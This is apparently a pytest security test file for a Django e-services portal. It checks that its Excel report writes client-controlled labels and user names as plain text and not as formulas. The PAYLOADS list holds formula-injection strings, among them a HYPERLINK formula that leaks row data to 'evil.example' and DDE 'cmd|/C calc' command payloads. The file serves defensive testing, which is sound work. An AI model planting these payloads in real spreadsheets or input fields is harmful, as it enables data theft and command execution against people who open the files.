"""Attack: put a formula where the Excel report shows text a client controls.

A client sets the own label of an e-service to `=HYPERLINK("http://evil.example/?leak="&A2,…)`
(or another formula prefix), then the legal person's administrator downloads the report in Excel;
if the cell is a formula, opening the file sends the row to the attacker. Every text cell must be
a string in the file's XML (`t="inlineStr"` or a shared string `t="s"`, no `<f>`), shown exactly
as typed: the direct download and the workbook built by a real Celery worker alike.

The project writes no CSV (the report is Excel only), so there is no CSV to check.
"""

from __future__ import annotations

import time
import zipfile
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from lxml import etree
from openpyxl import load_workbook

from eservices.models import EService, ExportJob
from tests.factories import EServiceFactory, LegalClientFactory, MembershipFactory, UserFactory
from tests.worker import celery_worker  # noqa: F401 — fixture

EXPORT = "/mans-konts/e-pakalpojumi/atskaite/excel/"
SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Atvērt")'
# Every prefix a spreadsheet may read as the start of a formula (OWASP CSV injection).
PAYLOADS = [
    LEAK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",  # not a formula, but openpyxl would write it as an error value
]
LABEL_COLUMN = "J"
USER_COLUMN = "K"


def xml_cells(workbook: bytes, column: str) -> dict[int, etree._Element]:
    """Row number → the <c> element of that column in the first sheet, straight from the XML."""
    with zipfile.ZipFile(BytesIO(workbook)) as archive:
        sheet = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for cell in sheet.iter(f"{SHEET_NS}c"):
        ref = cell.get("r")
        if ref.rstrip("0123456789") == column:
            cells[int(ref[len(column) :])] = cell
    return cells


def assert_text_cells(workbook: bytes, column: str, expected: dict[int, str]) -> None:
    cells = xml_cells(workbook, column)
    for row in expected:
        cell = cells[row]
        assert cell.find(f"{SHEET_NS}f") is None, f"{column}{row} is a formula"
        assert cell.get("t") in ("inlineStr", "s"), f"{column}{row} has type {cell.get('t')}"
    sheet = load_workbook(BytesIO(workbook)).active
    shown = {row: sheet[f"{column}{row}"] for row in expected}
    assert {row: cell.value for row, cell in shown.items()} == expected
    assert {cell.data_type for cell in shown.values()} == {"s"}


@pytest.fixture
def labelled(legal, colleague):
    """Six received e-services of the legal person, each labelled with one payload, in id order;
    the colleague who requested them has a formula for a first name too."""
    colleague.first_name = "=1+2"
    colleague.save(update_fields=["first_name"])
    return [
        EServiceFactory(
            client=legal,
            requested_by=colleague,
            received_at=timezone.now(),
            status="completed",
            label=f"placeholder {i}",
        )
        for i in range(len(PAYLOADS))
    ]


def set_labels_as_the_client(http, rows) -> None:
    """The first label through the page, the way an attacker types it; the others (the form
    strips leading tabs and CRs) straight into the database, as an import or the admin might."""
    response = http.post(reverse("eservices:label", args=[rows[0].pk]), {"label": LEAK})
    assert response.status_code == 302
    for row, payload in zip(rows[1:], PAYLOADS[1:], strict=True):
        EService.objects.filter(pk=row.pk).update(label=payload)
    assert EService.objects.get(pk=rows[0].pk).label == LEAK


@pytest.mark.django_db
def test_direct_excel_download_writes_formula_like_labels_as_text(
    legal, legal_admin, signed_in, labelled
):
    http = signed_in(legal_admin, acting_for=legal)
    set_labels_as_the_client(http, labelled)

    response = http.post(EXPORT + "?sort=id")

    assert response.status_code == 200
    workbook = b"".join(response.streaming_content)
    assert_text_cells(workbook, LABEL_COLUMN, {i + 2: p for i, p in enumerate(PAYLOADS)})
    assert_text_cells(workbook, USER_COLUMN, {2: "=1+2 " + labelled[0].requested_by.last_name})


@pytest.mark.django_db
def test_a_natural_persons_report_writes_the_label_as_text(owner, owner_client, signed_in):
    EServiceFactory(client=owner_client, received_at=timezone.now(), status="completed")
    http = signed_in(owner)
    http.post(reverse("eservices:label", args=[EService.objects.get().pk]), {"label": LEAK})

    response = http.post(EXPORT)

    assert_text_cells(b"".join(response.streaming_content), LABEL_COLUMN, {2: LEAK})


@pytest.fixture
def worker_media(settings, monkeypatch):
    """The worker process stores files where this test reads them."""
    monkeypatch.setenv("MEDIA_ROOT", str(settings.MEDIA_ROOT))


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_background_export_by_the_worker_writes_formula_like_labels_as_text(
    worker_media,
    celery_worker,  # noqa: F811
    signed_in,
    settings,
):
    settings.ESERVICE_EXPORT_DIRECT_LIMIT = 2
    legal = LegalClientFactory(registration_number="40003517893")
    admin = MembershipFactory(client=legal, role="admin").user
    requester = UserFactory(first_name="@SUM(1+1)", last_name="Ozola")
    rows = [
        EServiceFactory(
            client=legal,
            requested_by=requester,
            received_at=timezone.now(),
            status="completed",
            label=f"placeholder {i}",
        )
        for i in range(len(PAYLOADS))
    ]
    http = signed_in(admin, acting_for=legal)
    set_labels_as_the_client(http, rows)

    response = http.post(EXPORT + "?sort=id")

    job = ExportJob.objects.get()
    assert response.status_code == 302
    deadline = time.monotonic() + 60
    while job.state not in (ExportJob.State.DONE, ExportJob.State.FAILED):
        assert time.monotonic() < deadline, "the worker did not finish the export"
        time.sleep(0.3)
        job.refresh_from_db()
    assert job.state == ExportJob.State.DONE
    download = http.get(reverse("eservices:export_download", args=[job.pk]))
    workbook = b"".join(download.streaming_content)
    assert_text_cells(workbook, LABEL_COLUMN, {i + 2: p for i, p in enumerate(PAYLOADS)})
    assert_text_cells(workbook, USER_COLUMN, {2: "@SUM(1+1) Ozola"})
